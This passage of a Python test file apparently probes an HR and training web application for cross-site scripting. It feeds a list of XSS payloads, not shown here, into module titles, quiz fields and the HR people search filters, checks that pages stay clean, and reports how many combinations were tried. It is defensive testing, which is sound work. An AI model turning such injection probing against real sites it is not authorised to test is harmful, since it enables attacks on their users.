                probe.refusal(where, r)
                continue
            url = r.headers["Location"]
            expect = shown(value) if field == "title" else marker(i)
            probe.page(where, url, expect=None if field == "quiz" else expect)
            start = probe.client.post(f"/training/modules/{_id(url)}/attempts")
            attempt = start.headers["Location"]
            probe.page(where, attempt, expect=marker(i) if field == "quiz" else None)
            probe.page(where, "/training")
    probe.page("hr grid", "/hr/people")
    probe.page("hr dashboard", "/hr/")
    probe.assert_clean()


def test_hr_grid_filter_echo(probe, login, make_user):
    login(make_user(roles=["hr"]))
    for i, payload in enumerate(PAYLOADS):
        value = tagged(i, payload)
        where = f"hr.people_q p{i:02d}"
        probe.page(where, "/hr/people", query={"q": value, "requirement": value, "status": value})
        probe.tried("hr.people_q")
    probe.assert_clean()


# ---------------------------------------------------------------- the tally


def test_zz_report_combinations_tried(engine_name):
    tried = {field: n for (engine, field), n in TRIED.items() if engine == engine_name}
    total = sum(tried.values())
    print(
        f"\n[xss] {engine_name}: {len(PAYLOADS)} payloads x {len(tried)} fields = "
        f"{total} (field, payload) combinations tried"
    )
    for field in FIELDS:
        refused = REFUSED[(engine_name, field)]
        print(f"[xss]   {field}: {tried.get(field, 0)} tried, {refused} refused with a reason")
    if tried:  # only when the probing tests ran in this session (not under -k)
        assert set(tried) == set(FIELDS)
